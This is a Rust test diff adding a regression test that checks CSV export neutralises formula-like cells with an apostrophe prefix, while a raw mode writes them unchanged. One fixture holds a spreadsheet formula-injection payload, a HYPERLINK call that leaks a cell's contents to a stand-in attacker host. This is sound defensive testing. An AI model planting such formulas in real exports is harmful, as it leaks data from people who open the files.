@@ -45,6 +45,38 @@ fn export(store: &Store, format: Format) -> (String, ExportSummary) {
 }
 
 #[test]
+fn regression_csv_formula_cells_were_written_unchanged() {
+    let mut a = article_with_html(
+        "http://a.test/1",
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+        "-2+3 is the sum.\nSecond line.",
+        None,
+    );
+    a.article.site_name = Some("@evil".into());
+    let b = article_with_html("http://a.test/2", "+1 for this", "\tTabbed.", None);
+    let store = store_with(vec![a, b]);
+    let (csv, _) = export(&store, Format::Csv);
+    let rows: Vec<&str> = csv.split("\r\n").collect();
+    assert!(
+        rows[1].contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,"),
+        "{csv}"
+    );
+    assert!(rows[1].contains(",'@evil,\"'-2+3 is the sum."), "{csv}");
+    assert!(
+        rows[2].contains(",'+1 for this,") && rows[2].contains(",'\tTabbed.,"),
+        "{csv}"
+    );
+    assert!(rows[1].starts_with("1,http://a.test/1,a,"), "{csv}");
+    // Asked for, the cells are written as stored.
+    let (raw, _) = export(&store, Format::CsvRaw);
+    assert!(
+        raw.contains(",\"=HYPERLINK(") && raw.contains(",@evil,\"-2+3"),
+        "{raw}"
+    );
+    assert!(!raw.contains('\''), "{raw}");
+}
+
+#[test]
 fn csv_quotes_commas_quotes_and_line_breaks_per_rfc_4180() {
     let store = store_with(vec![article_with_html(
         "http://a.test/1",
